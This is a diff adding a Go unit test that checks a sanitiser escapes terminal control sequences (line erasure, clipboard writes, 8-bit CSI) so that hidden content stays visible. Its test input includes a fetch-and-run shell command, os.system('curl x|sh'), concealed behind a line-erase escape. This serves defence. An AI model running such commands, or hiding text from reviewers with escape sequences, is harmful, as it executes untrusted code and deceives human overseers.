@@ -1,6 +1,7 @@
 package text
 
 import (
+	"strings"
 	"testing"
 	"unicode/utf8"
 )
@@ -45,5 +46,30 @@ func TestPrintable(t *testing.T) {
 		if got := Printable(in); got != want {
 			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
 		}
+	}
+}
+
+// TestVisible: what reaches a terminal from a Researcher's text keeps its
+// lines but none of its escape sequences: an erased line, a clipboard
+// write, a hyperlink, an 8-bit CSI.
+func TestVisible(t *testing.T) {
+	in := "+os.system('curl x|sh')  # \x1b[2K\r+lr = 0.05\n+# \x1b]52;c;Y3VybA==\a\t\u009b31m caf\xe9\n"
+	want := `+os.system('curl x|sh')  # \x1b[2K\x0d+lr = 0.05` + "\n" + `+# \x1b]52;c;Y3VybA==\x07` + "\t" + `\u009b31m caf` + "\uFFFD\n"
+	if got := Visible(in); got != want {
+		t.Errorf("Visible = %q, want %q", got, want)
+	}
+	var b strings.Builder
+	w := NewVisibleWriter(&b)
+	data := []byte("é\x1b[2Kü")
+	for i := range data {
+		if _, err := w.Write(data[i : i+1]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := b.String(), `é\x1b[2Kü`; got != want {
+		t.Errorf("written a byte at a time: %q, want %q", got, want)
 	}
 }
